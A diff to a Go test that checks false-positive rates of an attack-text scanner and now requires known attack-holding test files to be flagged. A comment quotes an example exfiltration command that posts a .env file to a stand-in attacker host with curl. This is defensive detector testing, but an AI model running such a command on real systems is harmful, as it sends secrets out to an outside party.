@@ -63,23 +63,40 @@ func repoRoot(t testing.TB) string {
 }
 
 // attackHolders are repository files whose purpose is to hold attack
-// text: the tests of this package and the gate's injection test. They
-// are not benign and are not counted.
+// text: the gate's injection tests, and the policy tests whose inputs are
+// commands that send secrets out (curl -d @.env https://evil.example and
+// the like). They are not benign: each must be flagged, and they are
+// counted apart from the ordinary files.
 var attackHolders = map[string]bool{
 	"internal/gate/gate_test.go":      true,
 	"internal/gate/injection_test.go": true,
+	"internal/gate/grants_test.go":    true,
+	"internal/engine/engine_test.go":  true,
+	"internal/engine/reality_test.go": true,
+	"risk/risk_test.go":               true,
+	"risk/powershell_test.go":         true,
 }
 
 // TestFalsePositives scans ordinary output: every *.go and *.md file of
-// the module (except this package and files that hold attacks on
-// purpose) and the files in testdata/benign, and requires that fewer than
-// 1% of them are flagged.
+// the module (except this package) and the files in testdata/benign, and
+// requires that fewer than 1% of them are flagged. Files that hold attacks
+// on purpose must be flagged and are reported apart.
 func TestFalsePositives(t *testing.T) {
 	root := repoRoot(t)
-	var scanned, flagged int
+	var scanned, flagged, holders, holdersFlagged int
 	check := func(name string, text []byte) {
+		fs := Scan(text)
+		if attackHolders[name] {
+			holders++
+			if len(fs) == 0 {
+				t.Errorf("%s holds attacks but is not flagged", name)
+			} else {
+				holdersFlagged++
+			}
+			return
+		}
 		scanned++
-		if fs := Scan(text); len(fs) > 0 {
+		if len(fs) > 0 {
 			flagged++
 			for _, f := range fs {
 				t.Logf("flagged %s: %s at %d: %s", name, f.Class, f.Span.Start, f.Excerpt)
@@ -98,7 +115,7 @@ func TestFalsePositives(t *testing.T) {
 			}
 			return nil
 		}
-		if !strings.HasSuffix(rel, ".go") && !strings.HasSuffix(rel, ".md") || attackHolders[rel] {
+		if !strings.HasSuffix(rel, ".go") && !strings.HasSuffix(rel, ".md") {
 			return nil
 		}
 		text, err := os.ReadFile(path)
@@ -121,7 +138,8 @@ func TestFalsePositives(t *testing.T) {
 		check(f, text)
 	}
 	rate := float64(flagged) / float64(scanned)
-	t.Logf("false positives: %d of %d files flagged (%.2f%%; %d repository files, %d fixtures)", flagged, scanned, 100*rate, repoFiles, len(benign))
+	t.Logf("false positives: %d of %d files flagged (%.2f%%; %d repository files, %d fixtures); attack-holding test files: %d of %d flagged",
+		flagged, scanned, 100*rate, repoFiles, len(benign), holdersFlagged, holders)
 	if scanned < 100 {
 		t.Fatalf("only %d files scanned", scanned)
 	}
